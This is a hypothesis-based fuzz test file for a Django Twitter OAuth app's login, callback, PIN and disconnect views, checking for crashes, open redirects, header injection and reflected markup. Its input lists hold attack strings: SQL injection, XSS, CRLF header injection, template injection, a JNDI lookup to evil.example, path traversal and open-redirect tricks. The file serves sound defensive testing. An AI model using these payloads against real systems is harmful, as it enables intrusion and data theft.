"""Property-based fuzzing of every view's input, with hypothesis.

Random and adversarial query strings and form bodies go through Django's test Client
to ``begin``, ``callback``, ``denied``, ``pin`` and ``disconnect``, from new browsers,
signed-in ones and ones with an authorization pending (begun for real, against the
fake Twitter). Query strings and urlencoded bodies are built by hand, so invalid
percent-encoding and raw bytes reach Django as a browser or a script could send them.

Every example must get: no exception (the Client re-raises the view's, so a would-be
500 fails the example with its traceback); a status the view's contract allows; a
redirect, link or kept ``next`` only to this site or Twitter's authorize page; no
cookie but the session's and CSRF's; no header with a line break; no reflected
markup; and no row created by input that does not validly start or finish a flow.

The fixtures (users, tokens, pending flows) are set up once per test, before its
examples; each example runs in a transaction rolled back at its end, so it starts
from that state and no example sees another's rows. The examples are fixed
(``derandomize``) and their number too: each test counts the examples it ran and
fails unless that is its budget. docs/_reliability/fuzzing.inc has the figures.
"""

from __future__ import annotations

import html
import re
import string
import urllib.parse
from collections import Counter, defaultdict
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import User
from django.core.exceptions import BadRequest, TooManyFieldsSent
from django.db import connections, models, router, transaction
from django.http import QueryDict
from django.http.multipartparser import MultiPartParserError
from django.test import Client, RequestFactory, override_settings
from django.utils.encoding import iri_to_uri
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from pytest_django import Settings as DjangoSettings

from django_twitter_oauth import flow
from django_twitter_oauth.conf import app_settings
from django_twitter_oauth.models import AccessToken, RequestToken, TokenEvent, hash_token
from django_twitter_oauth.testing import FakeTwitter
from tests.utils import SECRET, TOKEN, make_token, make_user

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as Response

pytestmark = [pytest.mark.slow, pytest.mark.django_db]

#: Examples per test: a few thousand in all, so the file runs in well under a minute.
BUDGET = {
    "begin": 400,
    "callback": 500,
    "denied": 250,
    "pin": 400,
    "disconnect": 300,
    "next through the flow": 80,
    # Not hypothesis: every one of NEXT_TRICKS, completed and cancelled.
    "each next trick": 2 * 48,
}
#: Per test: examples run, responses by status, examples whose valid input created rows.
RAN: Counter[str] = Counter()
STATUSES: defaultdict[str, Counter[int]] = defaultdict(Counter)
VALID_ROWS: Counter[str] = Counter()
#: Per test: fuzzed examples that got as far as exchanging the verifier with Twitter.
TO_TWITTER: Counter[str] = Counter()


def fuzz(test: str) -> hypothesis_settings:
    """Fixed budget, the same examples every run (pytest-randomly's seed does not
    matter), no example database: nothing carries over between runs.

    ``@given`` decorates a function inside each test, not the test itself: the test's
    fixtures and set-up run once, outside hypothesis, so no health check needs to be
    suppressed (``function_scoped_fixture`` does not apply), and rolled_back() gives
    each example the state the set-up left."""
    return hypothesis_settings(
        max_examples=BUDGET[test], derandomize=True, deadline=None, database=None
    )


def report(test: str) -> None:
    assert RAN[test] == BUDGET[test]
    assert not [status for status in STATUSES[test] if status >= 500]
    print(  # the figures in docs/_reliability/fuzzing.inc (pytest -s shows them)
        f"fuzz {test}: {RAN[test]} examples, statuses {dict(sorted(STATUSES[test].items()))}, "
        f"{VALID_ROWS[test]} valid examples created rows, "
        f"{TO_TWITTER[test]} reached Twitter's oauth/access_token"
    )


# -- input ----------------------------------------------------------------------------------

#: Values for any field: injection-shaped, control characters, unicode, oversized.
TRICKY_VALUES = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x7f",
    "\r\nSet-Cookie: evil=1",
    "\r\nLocation: https://evil.example/",
    "%0d%0aSet-Cookie:%20evil=1",
    "' OR '1'='1",
    "1; DROP TABLE twitter_oauth_accesstoken; --",
    '" OR ""="',
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "%(secret)s %s %n",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "\ufeffoauth",
    "\ufffd",
    "İıßﬀ",
    "ｏａｕｔｈ",
    "🙂" * 10,
    "x" * 10_000,
    "🙂" * 5_000,
    "9" * 300,
    "-1",
    "0",
    "1e999",
    "null",
    "true",
    "oob",
    "6253282",
]
#: Percent-encoding that is not UTF-8, or not percent-encoding at all.
PERCENT_TRICKS = [
    "%FF",
    "%C0%AF",
    "%E0%80%AF",
    "%ED%A0%80",
    "%ED%BF%BF",
    "%F4%90%80%80",
    "%EF%BF%BE",
    "%C0",
    "%",
    "%G1",
    "%%",
    "%0",
    "%00",
    "%0D%0A",
    "%u002F",
    "+",
    "%2B",
    "%26next%3D%2F%2Fevil.example",
]
#: ``next`` URLs of every scheme and host trick, and the longest kept and beyond.
NEXT_TRICKS = [
    "/after/",
    "/after/?a=1&b=2#frag",
    "http://testserver/after/",
    "https://testserver/after/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    " //evil.example",
    "\x00//evil.example",
    "\x01//evil.example",
    "\u2028//evil.example",
    "http:evil.example",
    "https:evil.example",
    "http:/evil.example",
    "http:///evil.example",
    "https://testserver@evil.example",
    "https://evil.example@testserver",
    "https://testserver.evil.example/",
    "https://evil.example#@testserver",
    "https://evil.example\\@testserver",
    "https://evil.example?@testserver",
    "%2F%2Fevil.example",
    "/%2F%2Fevil.example",
    "/%5Cevil.example",
    "//evil\u3002example",
    "/\uff0fevil.example",
    "\uff0f\uff0fevil.example",
    "//\uff45vil.example",
    "https://[::1",
    "ftp://testserver/",
    "file:///etc/passwd",
    "/" + "a" * 2047,
    "/" + "a" * 2048,
    "/" + "中" * 2000,
    "/" + "😀" * 1000,
    "//evil.example/" + "a" * 10_000,
    "https://" + "a" * 3000 + ".example/",
]
NEXT_PREFIXES = [
    "",
    "/",
    "//",
    "\\\\",
    "/\\",
    " /",
    "\t/",
    "http:",
    "https:",
    "http://",
    "HTTPS://",
    "javascript:",
    "data:",
    "%2F%2F",
    "/\u3002",
]
NEXT_HOSTS = [
    "evil.example",
    "testserver",
    "testserver:80",
    "testserver@evil.example",
    "evil.example@testserver",
    "evil\u3002example",
    "127.0.0.1",
    "localhost",
    "[::1]",
    "alert(1)//",
]
#: Field names a view does not read, next to its own.
OTHER_NAMES = st.one_of(
    st.sampled_from(["", "a", "next[]", "NEXT", "oauth_token[]", "__proto__"]),
    st.text(max_size=8),
)
#: How key=value pairs are written: empty values, no "=", an extra "=".
SHAPES = ["{key}={value}"] * 4 + ["{key}", "={value}", "{key}=={value}", "{key}="]
#: Bodies in a form's encoding, in another charset, or not a form at all.
CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=UTF-8",
    "multipart/form-data; boundary=next",
    "text/plain",
    "application/json",
]
#: More fields than DATA_UPLOAD_MAX_NUMBER_FIELDS: Django answers 400.
TOO_MANY_FIELDS = "&".join(["a=1"] * 1001)


#: The characters of Twitter's tokens and verifiers.
TOKEN_ALPHABET = string.ascii_letters + string.digits + "_-"


def values(*specials: str) -> st.SearchStrategy[str]:
    """Any value: the field's own ``specials`` (valid ones, say), tricky or random."""
    own = [st.sampled_from(specials)] * 3 if specials else []
    return st.one_of(
        *own,
        st.sampled_from(TRICKY_VALUES),
        st.text(max_size=30),
        st.text(TOKEN_ALPHABET, min_size=1, max_size=40),
    )


assert len(NEXT_TRICKS) == 48  # BUDGET["each next trick"]


def _concat(*parts: str) -> str:
    return "".join(parts)


NEXT_URLS = st.one_of(
    st.sampled_from(NEXT_TRICKS),
    st.builds(
        _concat,
        st.sampled_from(NEXT_PREFIXES),
        st.sampled_from(NEXT_HOSTS),
        st.sampled_from(["", "/", "/after/", "?a=//evil.example", "#@evil.example"])
        | st.text(max_size=12),
    ),
    values(),
)


def _percent(data: bytes) -> str:
    return "".join(f"%{byte:02X}" for byte in data)


def _raw(text: str) -> str:
    """UTF-8 bytes as they reach a WSGI environ: unencoded, one latin-1 character each."""
    return text.encode().decode("latin-1")


def _quote(text: str) -> str:
    return urllib.parse.quote(text, safe="")


def encoded(value: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """One value as it may travel in a query string: encoded properly or not at all,
    random bytes, or broken percent-encoding around it."""
    return st.one_of(
        value.map(_quote),
        value.map(urllib.parse.quote_plus),
        value.map(_raw),
        st.binary(max_size=24).map(_percent),
        st.lists(st.sampled_from(PERCENT_TRICKS) | value.map(_quote), min_size=1, max_size=4).map(
            "".join
        ),
    )


def _percent_text(text: str) -> str:
    return _percent(text.encode())


# Strategies are built once, not inside draws: building them is most of hypothesis's cost.
KEY_ENCODINGS = st.sampled_from([_quote, _percent_text, _raw])
ANY_VALUE = encoded(values())
SHAPE = st.sampled_from(SHAPES)
SEPARATOR = st.sampled_from(["&", "&", ";"])


@st.composite
def query_strings(
    draw: st.DrawFn,
    names: st.SearchStrategy[list[str]],
    encoded_values: Mapping[str, st.SearchStrategy[str]],
) -> str:
    parts = []
    for name in draw(names):
        key = draw(KEY_ENCODINGS)(name)
        value = draw(encoded_values.get(name, ANY_VALUE))
        parts.append(draw(SHAPE).format(key=key, value=value))
    return draw(SEPARATOR).join(parts)


def queries(fields: Mapping[str, st.SearchStrategy[str]]) -> st.SearchStrategy[str]:
    """A query string (or urlencoded body) with the view's ``fields``, missing or
    duplicated, among others, each key and value encoded one way or another; or one
    properly encoded, each field at most once (so fuzzed values reach deeper); or one
    with more fields than Django takes."""
    own = st.sampled_from(sorted(fields))
    names = st.lists(st.one_of(own, own, OTHER_NAMES), max_size=8)
    encoded_values = {name: encoded(strategy) for name, strategy in fields.items()}
    well_formed = st.fixed_dictionaries({}, optional=dict(fields)).map(urllib.parse.urlencode)
    return st.one_of(
        query_strings(names, encoded_values), well_formed, well_formed, st.just(TOO_MANY_FIELDS)
    )


def naming_a_flow(fields: Mapping[str, st.SearchStrategy[str]]) -> st.SearchStrategy[str]:
    """A well-formed query whose oauth_token is a real pending flow's (this browser's
    or another's), the other ``fields`` fuzzed: input that reaches the flow's checks."""
    return st.fixed_dictionaries({**fields, "oauth_token": st.sampled_from([OWN, OTHER])}).map(
        urllib.parse.urlencode
    )


def _raw_body(query: str, content_type: str) -> dict[str, Any]:
    return {"data": query.encode("latin-1"), "content_type": content_type}


def _multipart(form: dict[str, list[str]]) -> dict[str, Any]:
    return {"data": form}


def form_bodies(fields: Mapping[str, st.SearchStrategy[str]]) -> st.SearchStrategy[dict[str, Any]]:
    """The keyword arguments of ``Client.post``: a raw body of some content type, or
    a multipart form whose fields may repeat."""
    return st.one_of(
        st.builds(_raw_body, queries(fields), st.sampled_from(CONTENT_TYPES)),
        st.fixed_dictionaries(
            {},
            optional={
                name: st.lists(strategy, min_size=1, max_size=3)
                for name, strategy in fields.items()
            },
        ).map(_multipart),
    )


# -- what the view sees, and what it answers --------------------------------------------------

FACTORY = RequestFactory()


def seen_in_query(query: str) -> QueryDict | None:
    """The view's ``request.GET`` for ``query``; None when Django refuses it (400)."""
    try:
        return FACTORY.get("/", QUERY_STRING=query).GET
    except TooManyFieldsSent:
        return None


def seen_in_body(body: dict[str, Any]) -> QueryDict | None:
    """The view's ``request.POST`` for ``body``; None when Django refuses it (400)."""
    try:
        return FACTORY.post("/", **body).POST
    except (BadRequest, TooManyFieldsSent, MultiPartParserError):
        return None


SITE = "http://testserver/twitter/callback/"
#: Twitter's authorize pages, under the configured TWITTER_OAUTH_API_URL.
TWITTER_AUTHORIZE = tuple(
    f"{app_settings.API_URL}/oauth/{page}?" for page in ("authenticate", "authorize")
)
#: C0 controls and space, which a browser strips around a URL (WHATWG URL standard).
C0_AND_SPACE = "".join(chr(code) for code in range(0x21))


def on_site(url: str) -> bool:
    """Whether a browser sent to ``url`` from one of the app's pages stays on this site,
    or goes to Twitter's authorize page. Read as a browser reads it: stripped, without
    tabs and newlines, backslashes as slashes."""
    if url.startswith(TWITTER_AUTHORIZE):
        return True
    cleaned = re.sub(r"[\t\n\r]", "", url.strip(C0_AND_SPACE)).replace("\\", "/")
    resolved = urllib.parse.urlsplit(urllib.parse.urljoin(SITE, cleaned))
    return resolved.scheme in ("http", "https") and resolved.netloc == "testserver"


ALLOWED_COOKIES = {settings.SESSION_COOKIE_NAME, settings.CSRF_COOKIE_NAME, flow.FLOW_COOKIE}
#: Markup from TRICKY_VALUES that a page may show only escaped.
MARKUP = ("<script>alert(1)</script>", '"><svg onload=alert(1)>')


def check(test: str, response: Response, *allowed: int) -> None:
    """What every answer to fuzzed input must be."""
    STATUSES[test][response.status_code] += 1
    assert response.status_code in allowed, (response.status_code, response.content[:300])
    assert not [name for name, value in response.items() if "\r" in value or "\n" in value]
    assert set(response.cookies) <= ALLOWED_COOKIES
    if response.status_code == 302:
        location = response["Location"]
        assert location.isascii() and location.isprintable() and " " not in location
        assert on_site(location), location
    page = response.content.decode()
    assert not [markup for markup in MARKUP if markup in page]
    links = re.findall(r'(?:href|action)="([^"]*)"', page)
    links += re.findall(r'name="next" value="([^"]*)"', page)
    assert [html.unescape(link) for link in links if not on_site(html.unescape(link))] == []


ROW_MODELS: tuple[type[models.Model], ...] = (
    AccessToken,
    RequestToken,
    TokenEvent,
    get_user_model(),
)


def rows_sql(row_models: tuple[type[models.Model], ...]) -> str:
    """One query for the primary keys of ``row_models`` (it runs twice per example); the
    names are the models' own, not input."""
    return " UNION ALL ".join(
        f"SELECT '{model.__name__}', {model._meta.pk.column} FROM {model._meta.db_table}"  # noqa: S608  # type: ignore[union-attr]
        for model in row_models
    )


def rows() -> dict[str, set[Any]]:
    """The primary keys of ROW_MODELS, each read on its own database (the users may be
    apart from the app's tables, tests/settings_second_db.py)."""
    found: dict[str, set[Any]] = {model.__name__: set() for model in ROW_MODELS}
    by_alias: dict[str, list[type[models.Model]]] = defaultdict(list)
    for model in ROW_MODELS:
        by_alias[router.db_for_write(model)].append(model)
    for alias, row_models in by_alias.items():
        with connections[alias].cursor() as cursor:
            cursor.execute(rows_sql(tuple(row_models)))
            for name, pk in cursor.fetchall():
                found[name].add(pk)
    return found


def created(before: dict[str, set[Any]]) -> dict[str, int]:
    """Rows created since ``before``, by model name."""
    return {name: len(pks - before[name]) for name, pks in rows().items() if pks - before[name]}


@contextmanager
def rolled_back() -> Iterator[None]:
    """One example's database work, undone at its end."""
    with ExitStack() as stack:
        for alias in connections:
            stack.enter_context(transaction.atomic(using=alias))
        yield
        for alias in connections:
            transaction.set_rollback(True, using=alias)


# -- browsers -------------------------------------------------------------------------------


def browser(session_key: str = "") -> Client:
    """A new browser, with the cookies ``session_key`` (:func:`session_of`) if given. It
    raises the view's exception instead of answering 500."""
    client = Client(raise_request_exception=True)
    for pair in filter(None, session_key.split("; ")):
        name, _, value = pair.partition("=")
        client.cookies[name] = value
    return client


def session_of(client: Client) -> str:
    """The browser's cookies (its session and its flow cookie), as one string."""
    return "; ".join(f"{name}={morsel.value}" for name, morsel in sorted(client.cookies.items()))


def signed_in(user: User) -> str:
    client = browser()
    client.force_login(user)
    return session_of(client)


def query_of(url: str) -> dict[str, str]:
    return dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))


def begun(session_key: str = "") -> tuple[str, str]:
    """A flow begun for real (next "/after/") in a browser, a new one unless
    ``session_key``: the browser's session key and the request token."""
    client = browser(session_key)
    response = client.post("/twitter/begin/", {"next": "/after/"})
    assert response.status_code == 302
    return session_of(client), query_of(response["Location"])["oauth_token"]


#: Stand-ins in drawn input for the request token of this browser's own pending flow
#: and of another browser's (so that input names real flows often enough), replaced
#: once the browser is drawn. Token characters only: every encoding leaves them whole.
OWN, OTHER = "OWNxFLOWxTOKEN", "OTHERxFLOWxTOKEN"


@dataclass(frozen=True)
class Browser:
    """A browser (``session``: its session key, "" a new one), the request token it
    began (``own``; a browser without a flow gets one it did not begin) and one another
    browser began (``other``)."""

    session: str
    own: str
    other: str

    def fill(self, text: str) -> str:
        return text.replace(OWN, self.own).replace(OTHER, self.other)

    def fill_body(self, body: dict[str, Any]) -> dict[str, Any]:
        data = body["data"]
        if isinstance(data, bytes):
            return {**body, "data": self.fill(data.decode("latin-1")).encode("latin-1")}
        return {"data": {name: [self.fill(value) for value in data[name]] for name in data}}


#: The names of browsers_with_flows(), those with a pending flow more often.
BROWSER_NAMES = st.one_of(
    st.sampled_from(["alice", "new", "pending connect", "pending sign-in"]),
    st.sampled_from(["pending connect", "pending sign-in"]),
)


def browsers_with_flows() -> tuple[dict[str, Browser], dict[str, str]]:
    """Browsers by name: a new one, Alice signed in, and one each with a sign-in and
    a connect flow pending. And the pending request tokens, with the session key of
    the browser that began each."""
    alice = make_user("alice")
    anonymous_session, anonymous_token = begun()
    alice_session, alice_token = begun(signed_in(alice))
    browsers = {
        "new": Browser("", anonymous_token, alice_token),
        "alice": Browser(signed_in(alice), alice_token, anonymous_token),
        "pending sign-in": Browser(anonymous_session, anonymous_token, alice_token),
        "pending connect": Browser(alice_session, alice_token, anonymous_token),
    }
    return browsers, {anonymous_token: anonymous_session, alice_token: alice_session}


# -- the views ------------------------------------------------------------------------------


def test_callback(fake_twitter: FakeTwitter) -> None:
    """Callbacks with any oauth_token, oauth_verifier and denied, also naming a real
    pending authorization of this browser or another: never a row, never a 500; 302
    only to the cancelled page for ``denied``, 403 only for another browser's flow."""
    browsers, pending = browsers_with_flows()
    verifiers = st.one_of(st.text(TOKEN_ALPHABET, min_size=1, max_size=40), values())
    approved = {"oauth_token": values(OWN, OTHER), "oauth_verifier": verifiers}
    any_callback = queries(approved | {"denied": values(OWN, OTHER)})

    @fuzz("callback")
    @given(
        name=BROWSER_NAMES,
        query=st.one_of(
            naming_a_flow(approved), naming_a_flow(approved), queries(approved), any_callback
        ),
    )
    def run(name: str, query: str) -> None:
        RAN["callback"] += 1
        session, query = browsers[name].session, browsers[name].fill(query)
        with rolled_back():
            before, seen = rows(), seen_in_query(query)
            response = browser(session).get("/twitter/callback/", QUERY_STRING=query)
            if seen is None:
                check("callback", response, 400)
            elif "denied" in seen:
                check("callback", response, 302)
                own = pending.get(seen.get("denied", "")) == session
                expected = "/twitter/denied/?next=%2Fafter%2F" if own else "/twitter/denied/"
                assert response["Location"] == expected
            elif pending.get(seen.get("oauth_token", ""), session) != session:
                check("callback", response, 400, 403)
            else:
                check("callback", response, 400)
            assert created(before) == {}

    run()
    TO_TWITTER["callback"] = fake_twitter.count("oauth/access_token")
    report("callback")


def test_denied(fake_twitter: FakeTwitter) -> None:
    """The cancelled page with any ``next``: 200, and its link stays on the site."""

    @fuzz("denied")
    @given(query=queries({"next": NEXT_URLS}))
    def run(query: str) -> None:
        RAN["denied"] += 1
        with rolled_back():
            before, seen = rows(), seen_in_query(query)
            response = browser().get("/twitter/denied/", QUERY_STRING=query)
            check("denied", response, 200 if seen is not None else 400)
            assert created(before) == {}

    run()
    report("denied")


BEGIN_FIELDS = {
    "next": NEXT_URLS,
    "force_login": values("1", "true", "yes", "on", "0", " TRUE ", "no"),
    "screen_name": values("jack", "j" * 50, "j" * 51),
    "authorize": values("1", "true", "0"),
    "access_type": values("read", "write"),
}
BEGIN_QUERIES, BEGIN_BODIES = queries(BEGIN_FIELDS), form_bodies(BEGIN_FIELDS)


def test_begin(fake_twitter: FakeTwitter) -> None:
    """begin by GET and POST, under each setting that changes what it does, from a new
    browser and a signed-in one: a valid start creates exactly one RequestToken (its
    ``next`` kept only when safe) and redirects to Twitter or the PIN page; anything
    else creates nothing."""
    alice = make_user("alice")
    sessions = {"new": "", "alice": signed_in(alice)}

    @fuzz("begin")
    @given(
        name=st.sampled_from(sorted(sessions)),
        post=st.booleans(),
        login_on_get=st.booleans(),
        oob=st.booleans(),
        sign_in=st.booleans(),
        data=st.data(),
    )
    def run(
        name: str, post: bool, login_on_get: bool, oob: bool, sign_in: bool, data: st.DataObject
    ) -> None:
        client = browser(sessions[name])
        with (
            rolled_back(),
            override_settings(
                TWITTER_OAUTH_LOGIN_ON_GET=login_on_get,
                TWITTER_OAUTH_CALLBACK_URL="oob" if oob else None,
                TWITTER_OAUTH_SIGN_IN=sign_in,
            ),
        ):
            before = rows()
            if post:
                body = data.draw(BEGIN_BODIES, label="body")
                seen = seen_in_body(body)
                response = client.post("/twitter/begin/", **body)
            else:
                query = data.draw(BEGIN_QUERIES, label="query")
                seen = seen_in_query(query)
                response = client.get("/twitter/begin/", QUERY_STRING=query)
            RAN["begin"] += 1
            screen_name = "" if seen is None else seen.get("screen_name", "")
            access_type = "" if seen is None else seen.get("access_type", "")
            if seen is None:
                check("begin", response, 400)
            elif not (post or login_on_get):
                check("begin", response, 200)  # the confirmation page
            elif (screen_name and not re.fullmatch(r"[A-Za-z0-9_]{1,50}", screen_name)) or (
                access_type not in ("", "read", "write")
            ):
                check("begin", response, 400)
            elif name == "new" and not sign_in:
                check("begin", response, 403)
            else:
                check("begin", response, 302)
                assert created(before) == {"RequestToken": 1}
                VALID_ROWS["begin"] += 1
                token = RequestToken.objects.exclude(pk__in=before["RequestToken"]).get()
                assert token.next_url in ("", seen.get("next"))
                assert on_site(token.next_url)
                assert token.user == (alice if name == "alice" else None)
                location = response["Location"]
                prefix = "/twitter/pin/?" if oob else "https://api.twitter.com/oauth/"
                assert location.startswith(prefix)
                assert hash_token(query_of(location)["oauth_token"]) == token.token_hash
                assert query_of(location).get("screen_name", "") == screen_name
                return
            assert created(before) == {}

    run()
    report("begin")


def test_pin(fake_twitter: FakeTwitter, settings: DjangoSettings) -> None:
    """The PIN page and form with any oauth_token, pin, force_login, screen_name, also
    naming a real pending PIN flow of this browser or another: never a row; the page
    (200) only for this browser's own flow, linking to Twitter's authorize page."""
    settings.TWITTER_OAUTH_CALLBACK_URL = "oob"
    browsers, pending = browsers_with_flows()
    get_fields = {
        "oauth_token": values(OWN, OTHER),
        "force_login": values("1", "true"),
        "screen_name": values("jack", "j" * 51),
    }
    post_fields = {
        "oauth_token": values(OWN, OTHER),
        "pin": st.one_of(st.text("0123456789 \t", min_size=1, max_size=12), values()),
    }
    get_queries = st.one_of(
        naming_a_flow(get_fields), naming_a_flow(get_fields), queries(get_fields)
    )
    raw_naming_a_flow = st.builds(_raw_body, naming_a_flow(post_fields), st.just(CONTENT_TYPES[0]))
    bodies = st.one_of(raw_naming_a_flow, raw_naming_a_flow, form_bodies(post_fields))

    @fuzz("pin")
    @given(name=BROWSER_NAMES, post=st.booleans(), data=st.data())
    def run(name: str, post: bool, data: st.DataObject) -> None:
        session = browsers[name].session
        client = browser(session)
        with rolled_back():
            before = rows()
            if post:
                body = browsers[name].fill_body(data.draw(bodies, label="body"))
                seen = seen_in_body(body)
                response = client.post("/twitter/pin/", **body)
            else:
                query = browsers[name].fill(data.draw(get_queries, label="query"))
                seen = seen_in_query(query)
                response = client.get("/twitter/pin/", QUERY_STRING=query)
            RAN["pin"] += 1
            oauth_token = "" if seen is None else seen.get("oauth_token", "")
            owner = pending.get(oauth_token)
            if seen is None or owner is None:
                check("pin", response, 400)
            elif owner != session:
                check("pin", response, 400, 403)
            elif post:
                check("pin", response, 400)  # Twitter refuses: nobody approved
            else:
                check("pin", response, 200)
                link = f'href="https://api.twitter.com/oauth/authorize?oauth_token={oauth_token}'
                assert link in response.content.decode()
            assert created(before) == {}

    run()
    TO_TWITTER["pin"] = fake_twitter.count("oauth/access_token")
    report("pin")


def test_disconnect(fake_twitter: FakeTwitter) -> None:
    """disconnect with any twitter_user_id and next, from a new browser, the account's
    owner and another user: only the owner naming the account exactly (or not naming
    any: her only account) disconnects it (200, one TokenEvent); the others get 404, a
    new browser the login page."""
    alice, mallory = make_user("alice"), make_user("mallory")
    linked = make_token(alice, twitter_user_id="6253282", screen_name="twitterapi")
    sessions = {"new": "", "alice": signed_in(alice), "mallory": signed_in(mallory)}
    fields = {
        "twitter_user_id": values("6253282", " 6253282", "06253282", "6253282\x00", "42"),
        "next": NEXT_URLS,
    }

    @fuzz("disconnect")
    @given(name=st.sampled_from(sorted(sessions)), body=form_bodies(fields))
    def run(name: str, body: dict[str, Any]) -> None:
        RAN["disconnect"] += 1
        # Twitter knows the token again (an earlier example may have revoked it there).
        fake_twitter.add_access_token(TOKEN, SECRET, user_id="6253282", screen_name="twitterapi")
        with rolled_back():
            before, seen = rows(), seen_in_body(body)
            response = browser(sessions[name]).post("/twitter/disconnect/", **body)
            if name == "new":
                check("disconnect", response, 302)
                assert response["Location"] == "/accounts/login/?next=/twitter/disconnect/"
            elif seen is None:
                check("disconnect", response, 400)
            elif name == "alice" and seen.get("twitter_user_id", "") in (
                "",
                linked.twitter_user_id,
            ):
                # Named exactly, or not named (Alice's only account).
                check("disconnect", response, 200)
                assert created(before) == {"TokenEvent": 1}
                assert not AccessToken.objects.exists()
                VALID_ROWS["disconnect"] += 1
                return
            else:
                check("disconnect", response, 404)
            assert created(before) == {}
            assert AccessToken.objects.get() == linked

    run()
    report("disconnect")


def through_the_flow(
    test: str, fake_twitter: FakeTwitter, client: Client, body: dict[str, Any], *, cancel: bool
) -> None:
    """Begin with ``body`` (its ``next``), then approve or cancel at Twitter: the
    browser ends on this site, at ``next`` only if it was kept, else the default."""
    sent = seen_in_body(body)
    assert sent is not None
    response = client.post("/twitter/begin/", **body)
    check(test, response, 302)
    oauth_token = query_of(response["Location"])["oauth_token"]
    kept = RequestToken.objects.get(token_hash=hash_token(oauth_token)).next_url
    assert kept in ("", sent["next"])
    if cancel:
        response = client.get(fake_twitter.deny(oauth_token))
        check(test, response, 302)
        page = client.get(response["Location"])
        check(test, page, 200)
        assert f'<a href="{html.escape(kept or "/profile/")}">' in page.content.decode()
    else:
        response = client.get(fake_twitter.authorize(oauth_token, user_id="42"))
        check(test, response, 302)
        assert response["Location"] == iri_to_uri(kept or "/profile/")
        VALID_ROWS[test] += 1


def test_next_through_the_flow(fake_twitter: FakeTwitter) -> None:
    """A flow begun with any ``next``, sent raw or as a form, then completed or
    cancelled at Twitter, in sign-in and in connect mode."""
    test = "next through the flow"
    alice = make_user("alice")
    make_token(alice, twitter_user_id="42")
    sessions = {"new": "", "alice": signed_in(alice)}

    @fuzz(test)
    @given(
        name=st.sampled_from(sorted(sessions)),
        next_url=st.one_of(st.sampled_from(NEXT_TRICKS), NEXT_URLS),
        raw=st.booleans(),
        cancel=st.booleans(),
    )
    def run(name: str, next_url: str, raw: bool, cancel: bool) -> None:
        RAN[test] += 1
        body: dict[str, Any] = (
            _raw_body(f"next={_quote(next_url)}", CONTENT_TYPES[0])
            if raw
            else _multipart({"next": [next_url]})
        )
        with rolled_back():
            through_the_flow(test, fake_twitter, browser(sessions[name]), body, cancel=cancel)

    run()
    report(test)


def test_every_next_trick_through_the_flow(fake_twitter: FakeTwitter) -> None:
    """Each of NEXT_TRICKS, not left to chance: completed and cancelled."""
    test = "each next trick"
    make_token(make_user("alice"), twitter_user_id="42")
    for next_url in NEXT_TRICKS:
        for cancel in (False, True):
            RAN[test] += 1
            with rolled_back():
                body = _multipart({"next": [next_url]})
                through_the_flow(test, fake_twitter, browser(), body, cancel=cancel)
    report(test)
